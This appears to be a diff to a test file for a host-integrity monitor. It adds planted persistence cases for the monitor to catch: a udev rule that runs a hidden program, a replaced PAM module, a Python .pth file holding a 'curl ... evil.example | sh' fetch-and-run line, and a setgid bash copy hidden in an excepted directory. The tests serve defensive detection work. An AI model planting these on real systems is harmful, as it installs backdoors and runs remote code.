@@ -43,6 +43,8 @@ const EXCLUDED = ['/opt/runner', '/var/lib/runner-warden'];
 function policy(edit: (p: Policy) => void = () => {}): Policy {
   const p = structuredClone(DEFAULT_POLICY);
   p.host.integrity.surfaces = [...FILE_SURFACES];
+  // A team's churn exception: it must not hide a setuid file.
+  p.host.integrity.exceptions = ['/tmp/churn/**'];
   edit(p);
   return p;
 }
@@ -213,6 +215,30 @@ const PLANTS: { name: string; plant: (T: string) => Promise<void>; expect: strin
     name: 'a file capability set on an existing system binary (only its ctime changes)',
     plant: async (T) => sh(`setcap cap_setuid+ep ${T}/usr/bin/python3`),
     expect: ['setuid: filecap:/usr/bin/python3 added'],
+  },
+  {
+    name: 'a udev rule that runs a program on a device event',
+    plant: (T) => writeFile(`${T}/usr/lib/udev/rules.d/99-zz.rules`, 'ACTION=="add", RUN+="/var/tmp/.x"\n'),
+    expect: ['systemd: /usr/lib/udev/rules.d/99-zz.rules added'],
+  },
+  {
+    name: 'a replaced PAM module',
+    plant: (T) => writeFile(`${T}/usr/lib/x86_64-linux-gnu/security/pam_unix.so`, 'accept any password\n'),
+    expect: ['setuid: /usr/lib/x86_64-linux-gnu/security/pam_unix.so modified'],
+  },
+  {
+    name: 'a .pth file python runs at every start',
+    plant: (T) => writeFile(`${T}/usr/lib/python3/dist-packages/zz.pth`, 'import os; os.system("curl -s https://evil.example | sh")\n'),
+    expect: ['setuid: /usr/lib/python3/dist-packages/zz.pth added'],
+  },
+  {
+    name: 'a setuid shell in a directory a team excepted as churn',
+    plant: async (T) => {
+      await mkdir(`${T}/tmp/churn`, { recursive: true });
+      await copyFile('/bin/bash', `${T}/tmp/churn/.y`);
+      await chmod(`${T}/tmp/churn/.y`, 0o2755);
+    },
+    expect: ['setuid: /tmp/churn/.y added'],
   },
   {
     name: 'another name server in /etc/resolv.conf',
